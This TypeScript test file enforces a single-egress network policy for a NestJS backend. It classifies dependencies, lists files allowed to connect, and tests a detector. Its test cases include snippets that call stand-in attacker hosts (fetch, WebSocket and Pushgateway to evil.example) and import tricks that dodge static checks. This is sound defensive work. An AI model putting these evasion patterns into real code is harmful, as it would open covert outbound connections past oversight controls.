import { readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { waysOut } from './ways-out.js';

const root = resolve(import.meta.dirname, '../..');
const read = (name: string): string => readFileSync(join(root, name), 'utf8');

/** Open no connection, or speak only over those that they are given. Used anywhere. */
const quiet = [
  '@apollo/utils.keyvaluecache', '@as-integrations/fastify', '@fastify/cookie', '@fastify/helmet', '@fastify/proxy-addr', '@ip-location-db/geo-whois-asn-country-mmdb',
  '@nestjs-cls/transactional', '@nestjs/apollo', '@nestjs/common', '@nestjs/core', '@nestjs/graphql', '@nestjs/platform-fastify', '@nestjs/schedule', '@node-rs/argon2',
  'class-transformer', 'class-validator', 'cockatiel', 'dataloader', 'fastify', 'graphql', 'graphql-query-complexity', 'graphql-ws', 'markdown-it', 'mmdb-lib', 'nestjs-cls', 'pino',
  'prom-client', 'rate-limiter-flexible', 'reflect-metadata', 'rxjs', 'sharp', 'typeid-js', 'uuid',
];
/** What they have all the same that connects, by what it is imported as or called. */
const loud = ['rxjs/ajax', 'rxjs/fetch', 'rxjs/webSocket', 'Pushgateway'];
/** Could connect to somewhere, and are kept from it by the words of one file. Used anywhere. */
const kept: Readonly<Record<string, { readonly why: string; readonly file: string; readonly words: readonly string[] }>> = {
  '@apollo/server': {
    why: 'would report to its maker where the environment has a key of theirs', file: 'src/platform/graphql/graphql.options.ts',
    words: ['ApolloServerPluginUsageReportingDisabled()', 'ApolloServerPluginSchemaReportingDisabled()'],
  },
  '@nestjs/bull': { why: 'its queues connect by bull-connections.ts', file: 'src/platform/queue/queue.module.ts', words: ['createClient: (kind'] },
  '@nestjs/typeorm': { why: 'connects as database-options.ts says', file: 'src/platform/database/database.module.ts', words: ['...databaseOptions({'] },
  'node-av': { why: 'FFmpeg can open URLs', file: 'src/platform/codecs/probe-clip.ts', words: ['protocol_whitelist: \'file\'', 'openInput(`file:${path}`'] },
  'typeorm': { why: 'has drivers for much', file: 'src/platform/database/database-options.ts', words: ['type: \'postgres\'', 'driver: { Pool: BoundedPool }'] },
};
/** Connect. Used by the files below and by no other. */
const connecting = ['@aws-sdk/client-s3', 'bull', 'ioredis', 'nodemailer', 'pg', 'pg-copy-streams', 'ws'];

/** Files that may, what each uses, and why that is no way past the one way out. */
const may: Readonly<Record<string, readonly [uses: string, why: string]>> = {
  'src/platform/egress/egress.ts': ['node:dns', 'the one way out: names are resolved here'],
  'src/platform/egress/send.ts': ['node:http node:https', 'the one way out: requests'],
  'src/platform/egress/agents.ts': ['node:http node:https', 'the one way out: connections of libraries that speak HTTP'],
  'src/platform/egress/connect.ts': ['node:net', 'the one way out: connections of libraries with another protocol'],
  'src/platform/mail/transport.ts': ['nodemailer', 'every connection comes from Egress.connect'],
  'src/platform/storage/s3-client.ts': ['@aws-sdk/client-s3', 'every connection comes from Egress.agents, and nothing is left for it to find out'],
  'src/platform/storage/s3-store.ts': ['@aws-sdk/client-s3', 'speaks through the client of s3-client.ts'],
  'src/platform/database/bounded-client.ts': ['pg', 'the installation’s own Postgres, which DATABASE_URL names'],
  'src/platform/database/bounded-pool.ts': ['pg', 'the same'],
  'src/platform/database/pg-notifications.ts': ['pg', 'the same'],
  'src/platform/database/cancel-request.ts': ['node:net', 'the same'],
  'src/platform/database/prepared-query.ts': ['pg', 'part of the client of the same'],
  'src/platform/database/timestamps.ts': ['pg', 'reads what the same answers'],
  'src/platform/queue/job-store.ts': ['pg', 'takes a connection to the same from its pool'],
  'src/platform/logging/request-log-writer.ts': ['pg pg-copy-streams', 'the same'],
  'src/platform/queue/bull-connections.ts': ['ioredis', 'the installation’s own Redis, which REDIS_URL names'],
  'src/platform/rate-limit/limiter-redis.ts': ['ioredis', 'the same'],
  'src/platform/graphql/socket-server.ts': ['ws', 'takes connections and makes none'],
  'src/platform/graphql/explorer.controller.ts': ['ruru/server ruru/static', 'pages for browsers, outside of production only'],
  'src/platform/codecs/run-in-child.ts': ['node:child_process', 'runs modules of ours (*.child.ts), which are looked at here too, with childEnvironment: no secrets'],
  'src/modules/accounts/hashing-thread.ts': ['node:worker_threads', 'the same, in a thread'],
  'src/platform/region/country-database.ts': ['node:module', 'finds the path of a file in a package'],
};

const packages = { quiet: new Set([...quiet, ...Object.keys(kept)]), loud: new Set(loud) };
const out = (source: string): string[] => waysOut(source, packages);
const sources = ['src', 'migrations'].flatMap((folder) => readdirSync(join(root, folder), { recursive: true, encoding: 'utf8' }).map((name) => `${folder}/${name}`))
  .filter((name) => name.endsWith('.ts') && !name.endsWith('.spec.ts'));

describe('the one way out [P3]', () => {
  it('every package that the product is made of is known for whether it connects: a new one is classified above', () => {
    const { dependencies } = JSON.parse(read('package.json')) as { dependencies: object };
    expect([...quiet, ...Object.keys(kept), ...connecting].sort()).toEqual(Object.keys(dependencies).sort());
  });

  it('nothing takes another way out than those above, and every one of them is still needed', () => {
    const taken = Object.fromEntries(sources.map((name) => [name, out(read(name)).join(' ')]).filter(([, uses]) => uses !== ''));
    expect(taken).toEqual(Object.fromEntries(Object.entries(may).map(([name, [uses]]) => [name, uses])));
  });

  it.each(Object.entries(kept))('%s is kept from connecting elsewhere', (_name, { file, words }) => {
    const text = read(file);
    expect(words.filter((word) => !text.includes(word))).toEqual([]);
  });

  it.each([
    `import { request } from 'node:http';`,
    `import https from 'https';`,
    `import * as net from 'node:net';`,
    `import { connect as isIP } from 'node:net';`,
    `import { type Socket, connect } from 'node:tls';`,
    `import { createSocket } from 'node:dgram';`,
    `import { connect } from 'node:http2';`,
    `import { resolve4 } from 'node:dns/promises';`,
    `import { exec } from 'node:child_process';`,
    `import { Worker, parentPort } from 'node:worker_threads';`,
    `import { createRequire } from 'node:module';`,
    `import cluster from 'node:cluster';`,
    `export { request } from 'node:https';`,
    `import axios from 'axios';`,
    `import { request } from 'undici';`,
    `import something from '@nobody/knows/it';`,
    `import { Client } from 'pg';`,
    `import { ajax } from 'rxjs/ajax';`,
    `import { Pushgateway } from 'prom-client';`,
    `import * as metrics from 'prom-client'; new metrics.Pushgateway('https://evil.example');`,
    `const { request } = await import('node:http');`,
    `const name = 'node:http'; await import(name);`,
    `const http = require('http');`,
    `const http = process.getBuiltinModule('http');`,
    `await fetch('https://evil.example');`,
    `const call = globalThis.fetch;`,
    `new WebSocket('wss://evil.example');`,
  ])('finds %s', (source) => {
    expect(out(source)).not.toEqual([]);
  });

  it.each([
    `import type { IncomingMessage } from 'node:http';`,
    `import { type Socket, isIP } from 'node:net';`,
    `import { parentPort } from 'node:worker_threads';`,
    `import { readFile } from 'node:fs/promises';`,
    `import { map } from 'rxjs';`,
    `import { Counter } from 'prom-client';`,
    `import { WebSocketServer } from 'graphql-ws';`,
    `class A { fetch() { return this.fetch(); } }`,
    `await import('./own-file.js');`,
  ])('minds nothing about %s', (source) => {
    expect(out(source)).toEqual([]);
  });
});
